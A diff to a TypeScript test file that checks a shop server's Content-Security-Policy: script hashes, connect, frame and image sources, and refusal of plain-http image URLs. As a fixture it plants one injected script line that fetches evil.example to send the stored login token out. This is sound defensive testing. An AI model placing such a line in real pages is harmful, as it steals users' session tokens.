@@ -2,7 +2,9 @@ import { createHash } from 'node:crypto';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { importCatalog } from '@shop/command-api';
+import { catalogFileSchema, importCatalog } from '@shop/command-api';
+import { loadConfig } from '@shop/platform';
+import { startCatalogAdminShop } from '../test-support/shop-fixtures.ts';
 import { smallCatalog } from '../test-support/catalog-fixture.ts';
 import { TEST_METRICS_TOKEN, api, startTestShop, type TestShop } from '../test-support/shop.ts';
 import { tempDir } from '../test-support/temp-dir.ts';
@@ -12,8 +14,24 @@ import { signUpVerified, startAccountShop, type AccountShop } from '../test-supp
 
 const BOOT = 'window.__boot = {}; /* the boot prefetch */';
 const MODULE_BOOT = "import('/assets/app.js');";
-const INDEX = `<!doctype html><html><head><!--first-screen-head--><script>${BOOT}</script></head><body><div id="root"></div><script type="module">${MODULE_BOOT}</script><script type="module" src="/assets/app.js"></script></body></html>`;
+/** A script that got into the page after the build (a tampered file, an injection): never allowed. */
+const INJECTED = "fetch('https://evil.example/steal?t=' + localStorage.getItem('token'));";
+const INDEX = `<!doctype html><html><head><!--first-screen-head--><script>${BOOT}</script><script>${INJECTED}</script></head><body><div id="root"></div><script type="module">${MODULE_BOOT}</script><script type="module" src="/assets/app.js"></script></body></html>`;
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+/** What the build writes beside index.html: the hashes of its own boot scripts. */
+const MANIFEST = { scripts: [sha(BOOT), sha(MODULE_BOOT)] };
+
+/** A reply's policy as directive → sources. */
+function directives(response: Response): Map<string, string[]> {
+  const policy = response.headers.get('content-security-policy') ?? '';
+  return new Map(
+    policy
+      .split(';')
+      .map((d) => d.trim().split(/\s+/))
+      .filter((d) => d[0])
+      .map(([name, ...sources]) => [name!, sources]),
+  );
+}
 
 /** A product name an admin might type, full of `String.replace` replacement patterns. */
 const TRICKY_NAME = "Gift $& Box $' and $` for $$5";
@@ -34,6 +52,7 @@ describe('security headers on every response', () => {
     mkdirSync(join(dist.path, 'ssr'), { recursive: true });
     mkdirSync(join(dist.path, 'assets'), { recursive: true });
     writeFileSync(join(dist.path, 'index.html'), INDEX);
+    writeFileSync(join(dist.path, 'csp-hashes.json'), JSON.stringify(MANIFEST));
     writeFileSync(join(dist.path, 'assets', 'app.js'), 'console.log(1)');
     writeFileSync(join(dist.path, 'ssr', 'route-assets.json'), JSON.stringify({}));
     // A stand-in for the storefront's render: the product's name as the page's heading.
@@ -44,7 +63,7 @@ describe('security headers on every response', () => {
         return { head: '', body: '<h1>' + (product ? product.name : pathname) + '</h1>' };
       }`,
     );
-    t = await startTestShop({ env: { UI_DIST: dist.path } });
+    t = await startTestShop({ env: { UI_DIST: dist.path, IMAGE_HOSTS: 'https://cdn.example.in/some/path' } });
     const catalog = smallCatalog();
     catalog.products = catalog.products.map((p) => (p.id === catalog.ids.phone ? { ...p, name: TRICKY_NAME } : p));
     productId = catalog.ids.phone;
@@ -73,6 +92,29 @@ describe('security headers on every response', () => {
     }
   });
 
+  it("allows only the build manifest's boot scripts, never one the served page carries besides", async () => {
+    // Pages without a first screen (whose data script the server adds, and allows, on its own).
+    for (const path of ['/cart', '/my-account', '/api/category']) {
+      const response = await fetch(t.url + path);
+      const page = await response.text();
+      if (path !== '/api/category') expect(page).toContain(INJECTED);
+      const hashes = scriptSources(response).filter((s) => s.startsWith("'sha256-"));
+      expect(hashes.sort(), path).toEqual([...MANIFEST.scripts].sort());
+      expect(hashes, path).not.toContain(sha(INJECTED));
+    }
+  });
+
+  it('limits where a page may load from, call, frame and show images from', async () => {
+    const policy = directives(await fetch(`${t.url}/cart`).then(async (r) => (await r.arrayBuffer(), r)));
+    expect(policy.get('default-src')).toEqual(["'self'"]);
+    // Calls only to the shop: an injected script could not post the stored token anywhere.
+    expect(policy.get('connect-src')).toEqual(["'self'"]);
+    // Images from the shop, data: URLs and the configured https host (as an origin).
+    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'https://cdn.example.in']);
+    expect(policy.get('frame-src')).toEqual(["'none'"]);
+    expect(policy.get('object-src')).toEqual(["'none'"]);
+  });
+
   it('puts a product name with replacement patterns into the first screen verbatim, its data script allowed by hash', async () => {
     const path = `/product/${productId}`;
     await fetch(t.url + path).then((r) => r.text());
@@ -84,6 +126,7 @@ describe('security headers on every response', () => {
     const data = /<script>(window\.__firstScreen=[^<]*)<\/script>/.exec(html)?.[1];
     expect(data).toBeDefined();
     expect(scriptSources(response)).toEqual(expect.arrayContaining([sha(data!), sha(BOOT), sha(MODULE_BOOT)]));
+    expect(scriptSources(response)).not.toContain(sha(INJECTED));
   });
 
   it('serves /metrics only to a scraper with the metrics token', async () => {
@@ -105,8 +148,14 @@ describe('configured features widen the policy by exactly their script origins',
     try {
       const plain = scriptSources(await fetch(`${off.url}/healthz`));
       expect(plain.filter((s) => s.startsWith('http'))).toEqual([]);
-      const widened = scriptSources(await fetch(`${on.url}/healthz`));
+      const reply = await fetch(`${on.url}/healthz`);
+      const widened = scriptSources(reply);
       expect(widened.filter((s) => s.startsWith('http')).sort()).toEqual(['https://accounts.google.com/gsi/client', 'https://checkout.razorpay.com']);
+      // Razorpay's checkout window and Google's sign-in frames, and the calls they make.
+      const policy = directives(reply);
+      expect(policy.get('frame-src')).toEqual(expect.arrayContaining(['https://api.razorpay.com', 'https://checkout.razorpay.com', 'https://accounts.google.com/gsi/']));
+      expect(policy.get('connect-src')).toEqual(expect.arrayContaining(["'self'", 'https://api.razorpay.com']));
+      expect(directives(await fetch(`${off.url}/healthz`)).get('frame-src')).toEqual(["'none'"]);
     } finally {
       await off.close();
       await on.close();
@@ -117,6 +166,48 @@ describe('configured features widen the policy by exactly their script origins',
     const t = await startTestShop({ env: { METRICS_TOKEN: '' } });
     try {
       expect((await api(t.url, '/metrics')).status).toBe(404);
+    } finally {
+      await t.close();
+    }
+  });
+});
+
+describe('image sources', () => {
+  it('refuses image hosts that are not https', () => {
+    expect(() => loadConfig({ IMAGE_HOSTS: 'http://cdn.example.in' })).toThrow(/IMAGE_HOSTS/);
+    expect(loadConfig({ IMAGE_HOSTS: 'https://cdn.example.in, https://img.example.in/x' }).IMAGE_HOSTS).toEqual(['https://cdn.example.in', 'https://img.example.in']);
+  });
+
+  it("refuses an admin's plain-http product image, takes https and the shop's own paths", async () => {
+    const catalog = smallCatalog();
+    const { t, admin } = await startCatalogAdminShop(catalog);
+    try {
+      const product = {
+        name: 'Brass Diya',
+        brand: 'Moradabad',
+        description: 'Hand-polished brass.',
+        price: 499,
+        oldPrice: 599,
+        countInStock: 5,
+        isFeatured: false,
+        catId: catalog.ids.fashion,
+        subCatId: catalog.ids.shirts,
+        productRam: [],
+        size: [],
+        productWeight: [],
+        location: [{ value: 'All', label: 'All' }],
+      };
+      const plain = await api<{ msg: string }>(t.url, '/api/admin/products', { method: 'POST', token: admin, body: { ...product, images: ['http://cdn.example.in/diya.jpg'] } });
+      expect(plain.status).toBe(400);
+      expect(plain.body).toMatchObject({ error: true, msg: expect.stringContaining('https://') });
+      for (const images of [['https://cdn.example.in/diya.jpg'], ['/uploads/catalog/x.png'], [`${t.url}/images/seed/product/a.svg`]]) {
+        expect((await api(t.url, '/api/admin/products', { method: 'POST', token: admin, body: { ...product, images } })).status, images[0]).toBe(201);
+      }
+      // The catalog file format takes the same rule.
+      const file = smallCatalog();
+      file.products[0]!.images = ['http://cdn.example.in/a.jpg'];
+      expect(catalogFileSchema.safeParse(file).success).toBe(false);
+      expect(catalogFileSchema.safeParse(smallCatalog()).success).toBe(true);
     } finally {
       await t.close();
     }
